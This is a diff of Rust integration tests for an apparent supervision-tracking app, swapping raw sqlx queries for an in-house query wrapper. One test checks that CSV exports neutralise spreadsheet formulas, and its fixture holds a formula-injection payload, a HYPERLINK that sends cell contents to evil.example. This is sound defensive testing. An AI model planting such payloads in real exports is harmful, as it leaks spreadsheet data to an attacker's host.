@@ -100,7 +100,7 @@ async fn a_held_session_takes_someone_off_the_overdue_list() {
         .next()
         .expect("the demo has someone overdue");
     let sam = t.user_id(SUPERVISOR).await;
-    sqlx::query(
+    mhsw::store::engine::query(
         "INSERT INTO supervision_sessions (practitioner_id, supervisor_user_id, session_type, status,
             scheduled_on, held_on, minutes, created_at, updated_at)
          VALUES ($1, $2, 'professional', 'held', $3, $3, 90, $4, $4)",
@@ -196,15 +196,17 @@ async fn names_reach_the_csv_exports_as_text_never_as_formulas() {
         ))
         .await;
     let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")";
-    sqlx::query("UPDATE practitioners SET given_name = $1, family_name = $2 WHERE id = $3")
-        .bind(payload)
-        .bind("+1+1")
-        .bind(seconded)
-        .execute(&t.db.pool)
-        .await
-        .unwrap();
+    mhsw::store::engine::query(
+        "UPDATE practitioners SET given_name = $1, family_name = $2 WHERE id = $3",
+    )
+    .bind(payload)
+    .bind("+1+1")
+    .bind(seconded)
+    .execute(&t.db.pool)
+    .await
+    .unwrap();
     // Nobody has supervision, so everyone (the renamed worker too) is listed as overdue.
-    sqlx::query("DELETE FROM supervision_sessions")
+    mhsw::store::engine::query("DELETE FROM supervision_sessions")
         .execute(&t.db.pool)
         .await
         .unwrap();
@@ -249,21 +251,21 @@ async fn no_agreement_and_never_supervised_are_their_own_counts_on_every_page() 
     let t = TestApp::new().await;
     let api = t.api(PSW).await;
     // Someone with an agreement and no sessions, and someone with neither.
-    let ids: Vec<i64> = sqlx::query_scalar(
+    let ids: Vec<i64> = mhsw::store::engine::query_scalar(
         "SELECT id FROM practitioners WHERE id IN (SELECT practitioner_id FROM supervision_agreements WHERE ended_on IS NULL) ORDER BY id LIMIT 2",
     )
     .fetch_all(&t.db.pool)
     .await
     .unwrap();
     for id in &ids {
-        sqlx::query(&format!(
+        mhsw::store::engine::query(format!(
             "DELETE FROM supervision_sessions WHERE practitioner_id = {id}"
         ))
         .execute(&t.db.pool)
         .await
         .unwrap();
     }
-    sqlx::query(&format!(
+    mhsw::store::engine::query(format!(
         "DELETE FROM supervision_agreements WHERE practitioner_id = {}",
         ids[1]
     ))
